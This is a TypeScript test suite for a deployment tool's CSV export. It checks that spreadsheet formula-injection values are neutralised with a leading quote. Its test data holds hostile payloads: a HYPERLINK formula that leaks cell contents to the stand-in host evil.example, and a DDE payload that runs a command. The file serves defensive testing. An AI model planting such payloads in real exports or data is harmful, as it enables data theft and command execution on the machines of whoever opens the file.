/**
 * The red team against `canary history --format csv`: a reason (or actor, deployment id) that a
 * spreadsheet would run as a formula — `=`, `+`, `-`, `@`, a tab or a carriage return first, also
 * after spaces — is written with a leading `'` and quoted, so it opens as text; every other value
 * is written as before. Each row is parsed back with an RFC 4180 reader of its own.
 */
import { csvCell } from '../../cli/commands/history-view';
import { TrailWorld } from './trail-world';

/** RFC 4180: fields split by commas, records by CRLF or LF; a quoted field may hold commas, quotes ("") and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"' && field === '') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\n' || c === '\r') {
      if (c === '\r' && text[i + 1] === '\n') i += 1;
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else field += c;
  }
  if (field !== '' || row.length > 0) rows.push([...row, field]);
  return rows;
}

/** What a spreadsheet would run: a cell whose text starts with a formula character, after any whitespace. */
const runsAsFormula = (cell: string) => /^[\t\r]|^\s*[=+\-@]/.test(cell);

describe('red team: formula injection into --format csv', () => {
  it.each<[string, string, string]>([
    ['a formula', '=HYPERLINK("http://evil.example/?"&A1,"details")', `'=HYPERLINK("http://evil.example/?"&A1,"details")`],
    ['a DDE payload', "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['a plus', '+1+cmd|x', "'+1+cmd|x"],
    ['a minus', '-2+3', "'-2+3"],
    ['an at sign', '@SUM(1,2)', "'@SUM(1,2)"],
    ['leading spaces', '   =1+1', "'   =1+1"],
    ['a leading no-break space', '\u00a0=1+1', "'\u00a0=1+1"],
    ['a leading tab', '\t=1+1', "'\\t=1+1"],
    ['a leading tab alone', '\tnote', "'\\tnote"],
    ['a leading carriage return', '\r=1+1', "'\\r=1+1"],
    ['a leading newline', '\n=1+1', "'\\n=1+1"],
    ['a formula with quotes, a comma and a newline', '=A1&"x",B2\nnext', `'=A1&"x",B2\\nnext`],
  ])('neutralises %s: it parses back as the quoted text, never as a formula', (_what, value, shown) => {
    const cell = csvCell(value);
    expect(cell.startsWith(`"'`)).toBe(true);
    const [[parsed]] = parseCsv(`${cell}\n`);
    expect(parsed).toBe(shown);
    expect(runsAsFormula(parsed)).toBe(false);
  });

  it.each<[string, unknown, string]>([
    ['a plain reason', 'canary 5xx 4.8% vs baseline 0.3%', 'canary 5xx 4.8% vs baseline 0.3%'],
    ['a reason with a comma and quotes', 'aborted by "ops", see runbook', '"aborted by ""ops"", see runbook"'],
    ['an inner formula character', 'rollback: a=b+c-d@e', 'rollback: a=b+c-d@e'],
    ['a number', 17, '17'],
    ['a boolean', true, 'true'],
    ['an object', { canary: { requests: 5 } }, '"{""canary"":{""requests"":5}}"'],
    ['nothing', undefined, ''],
    ['a deployment id', 'd-0004FTI4H', 'd-0004FTI4H'],
  ])('leaves %s as it was', (_what, value, written) => {
    expect(csvCell(value)).toBe(written);
  });

  it('a genuine record whose operator reason is a formula: history exports it neutralised, verified, the other cells unchanged', async () => {
    const t = new TrailWorld();
    try {
      await t.twoRollouts();
      const reason = '=HYPERLINK("http://evil.example/"&A2,"click"), "quoted"\nsecond line';
      await t.engineWrites('d-C', 'abort', reason, 90, { actor: '@ops-team' });
      const result = await t.history(['--format', 'csv', '--limit', '2']);
      expect(result.code).toBe(0);
      const [header, abort, restore] = parseCsv(result.stdout);
      const cell = (row: string[], column: string) => row[header.indexOf(column)];
      expect(cell(abort, 'reason')).toBe(`'=HYPERLINK("http://evil.example/"&A2,"click"), "quoted"\\nsecond line`);
      expect(cell(abort, 'actor')).toBe("'@ops-team");
      expect(cell(abort, 'verified')).toBe('true');
      expect(cell(abort, 'deploymentId')).toBe('d-C');
      expect(cell(restore, 'reason')).toBe('restored 100% to the original');
      expect(cell(restore, 'actor')).toBe('engine');
      for (const row of [abort, restore]) for (const value of row) expect(runsAsFormula(value)).toBe(false);
    } finally {
      t.restore();
    }
  });
});
